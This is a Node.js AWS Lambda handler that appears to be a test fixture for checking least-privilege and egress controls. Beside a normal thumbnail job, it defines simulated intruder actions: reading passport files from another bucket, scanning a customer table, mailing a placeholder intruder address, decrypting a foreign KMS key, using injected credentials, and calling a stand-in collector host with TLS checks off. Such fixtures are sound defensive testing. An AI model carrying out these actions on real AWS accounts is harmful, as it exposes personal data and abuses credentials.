const { createHash } = require('node:crypto');
const { get } = require('node:https');
const AWS = require('aws-sdk');

/** The function of every story here, in the AWS SDK for JavaScript v2: `{do: "work", key, size}` is its job, all else is what an intruder makes it do. */
const s3 = new AWS.S3();
const dynamodb = new AWS.DynamoDB();
const sqs = new AWS.SQS();

exports.handler = async (event) => {
  // Lambda's runtime has it from Lambda; the emulator keeps it to itself.
  if (event.trace) process.env._X_AMZN_TRACE_ID = event.trace;
  try {
    return await (event.do === 'work' ? work(event) : attacks[event.do](event));
  } catch (error) {
    console.error(`${event.do}: ${error.code}: ${error.message}`);
    return {
      error: error.code,
      code: error.code ?? null,
      status: error.statusCode ?? null,
      attempts: error.attempts ?? null,
    };
  }
};

/** Sends; an error tells how often it was tried. */
async function send(request) {
  try {
    return await request.promise();
  } catch (error) {
    error.attempts = request.response.retryCount + 1;
    throw error;
  }
}

async function work({ key, size, sleep, crash }) {
  const { Body: bytes } = await send(s3.getObject({ Bucket: 'photo-uploads', Key: key }));
  const body = Buffer.alloc(size, bytes);
  await send(s3.putObject({ Bucket: 'photo-thumbnails', Key: key, Body: body }));
  await send(dynamodb.putItem({ TableName: 'Images', Item: { image: { S: key }, size: { N: `${size}` } } }));
  await send(sqs.sendMessage({ QueueUrl: process.env.QUEUE, MessageBody: JSON.stringify({ key }) }));
  if (sleep) await new Promise((resolve) => setTimeout(resolve, sleep));
  if (crash) process.exit(7);
  return { read: createHash('sha256').update(bytes).digest('hex'), written: body.length };
}

const attacks = {
  async 'other-bucket'() {
    const { Body } = await send(s3.getObject({ Bucket: 'identity-documents', Key: 'passports/1043' }));
    return { result: Body.toString() };
  },
  async 'scan-table'() {
    return { result: (await send(dynamodb.scan({ TableName: 'Customers' }))).Count };
  },
  async 'send-mail'() {
    const Message = { Subject: { Data: 'x' }, Body: { Text: { Data: 'body-marker-mail' } } };
    const mail = { Source: 'shop@example.com', Destination: { ToAddresses: ['intruder@example.com'] }, Message };
    return { result: (await send(new AWS.SES().sendEmail(mail))).MessageId };
  },
  async 'foreign-key'() {
    const CiphertextBlob = Buffer.from(process.env.CIPHERTEXT, 'base64');
    return { result: (await send(new AWS.KMS().decrypt({ CiphertextBlob }))).Plaintext.toString() };
  },
  async stream() {
    const record = { StreamName: 'clicks', PartitionKey: '1', Data: Buffer.from('body-marker-stream') };
    return { result: (await send(new AWS.Kinesis().putRecord(record))).SequenceNumber };
  },
  async 'own-credentials'({ accessKeyId, secretAccessKey }) {
    const own = new AWS.S3({ accessKeyId, secretAccessKey });
    const upload = { Bucket: 'photo-thumbnails', Key: 'stolen', Body: 'body-marker-stolen' };
    return { result: (await send(own.putObject(upload))).ETag };
  },
  async 'large-upload'() {
    const Body = Buffer.alloc(4 * 1024 * 1024, 'body-marker-large ');
    return { result: (await send(s3.putObject({ Bucket: 'holiday-pictures', Key: 'x', Body }))).ETag };
  },
  'unknown-host': () =>
    new Promise((resolve, reject) => {
      get('https://collector.example/collect', { rejectUnauthorized: false }, (response) => {
        response.resume();
        response.on('end', () => resolve({ result: response.statusCode }));
      }).on('error', reject);
    }),
};
